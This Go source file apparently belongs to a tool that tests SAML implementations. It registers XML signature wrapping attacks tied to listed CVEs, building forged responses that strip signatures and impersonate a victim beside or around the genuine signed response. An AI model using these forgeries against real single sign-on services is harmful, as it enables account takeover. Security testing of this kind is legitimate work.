package forge

import (
	"bytes"
	"errors"
	"strings"

	"github.com/beevik/etree"
)

// Wrapping around the response: two of them in a foreign root, or one after the other
// with no root around them. And assertions that only pass for one.
func init() {
	for _, forgedFirst := range []bool{true, false} {
		order := "last"
		if forgedFirst {
			order = "first"
		}
		register("xsw",
			Attack{
				Row: "XSW-19", Name: "foreign-root-forged-" + order, Rule: "foreign-root", Modes: Everywhere,
				Summary: "stands in another element next to a forged one, which comes " + order,
				Sources: []string{"CVE-2022-39299"},
				bytes: func(d Donor, xml []byte) ([]byte, error) {
					return twice(d, xml, forgedFirst, `<x:Envelope xmlns:x="urn:rollcall:envelope">`, "</x:Envelope>")
				},
			},
			Attack{
				Row: "XSW-20", Name: "two-roots-forged-" + order, Rule: "two-roots", Modes: Everywhere,
				Summary: "is posted together with a forged one, which comes " + order,
				Sources: []string{"CVE-2022-39299", "CVE-2022-39353"},
				bytes: func(d Donor, xml []byte) ([]byte, error) {
					return twice(d, xml, forgedFirst, "", "")
				},
			},
		)
	}
	for _, form := range []struct {
		name, called string
		disguise     func(*etree.Element)
	}{
		{"lower-case", "an assertion in small letters", func(el *etree.Element) { el.Tag = strings.ToLower(el.Tag) }},
		{"old-namespace", "an assertion of SAML 1.1", namespaced("urn:oasis:names:tc:SAML:1.0:assertion")},
		{"foreign-namespace", "an assertion of no SAML at all", namespaced("urn:rollcall:foreign")},
	} {
		register("xsw", Attack{
			Row: "XSW-29", Name: "assertion-in-name-only-" + form.name, Rule: "assertion-in-name-only", Modes: OnAssertion, wraps: true,
			Expect: Harmless, Summary: "has " + form.called + ", which is forged, before the signed one",
			Sources: []string{"GO-2026-6909"},
			document: arranged(false, func(w wrapping) error {
				return w.besides(func(forged *etree.Element) {
					form.disguise(forged)
					before(w.assertion, forged)
				})
			}),
		})
	}
}

// namespaced puts an element, but not what is in it, into another namespace.
func namespaced(namespace string) func(*etree.Element) {
	return func(el *etree.Element) {
		el.Space = "other"
		el.CreateAttr("xmlns:other", namespace)
	}
}

// twice writes the genuine response and a forged one, one after the other, between the
// two texts.
func twice(d Donor, xml []byte, forgedFirst bool, opening, closing string) ([]byte, error) {
	declaration, genuine, err := prolog(xml)
	if err != nil {
		return nil, err
	}
	forged, err := forgedCopy(d, genuine)
	if err != nil {
		return nil, err
	}
	first, second := genuine, forged
	if forgedFirst {
		first, second = forged, genuine
	}
	return bytes.Join([][]byte{declaration, []byte(opening), first, second, []byte(closing)}, nil), nil
}

// prolog divides a document into its XML declaration and the rest.
func prolog(xml []byte) (declaration, rest []byte, err error) {
	end := bytes.Index(xml, []byte("?>"))
	if !bytes.HasPrefix(xml, []byte("<?xml ")) || end < 0 {
		return nil, nil, errors.New("the donor has no XML declaration")
	}
	return xml[:end+2], bytes.TrimLeft(xml[end+2:], "\r\n"), nil
}

// forgedCopy is the response, without signatures, as it would be if the victim signed
// in, under IDs that no message had before.
func forgedCopy(d Donor, xml []byte) ([]byte, error) {
	document := etree.NewDocument()
	if err := document.ReadFromBytes(xml); err != nil {
		return nil, err
	}
	document.WriteSettings = etree.WriteSettings{CanonicalText: true, CanonicalAttrVal: true}
	response := document.Root()
	assertion, err := find(response, "Assertion")
	if err != nil {
		return nil, err
	}
	w := wrapping{donor: d, response: response, assertion: assertion}
	if err := unsign(response, assertion); err != nil {
		return nil, err
	}
	if err := impersonate(d, assertion); err != nil {
		return nil, err
	}
	w.rename(response, assertion)
	return document.WriteToBytes()
}
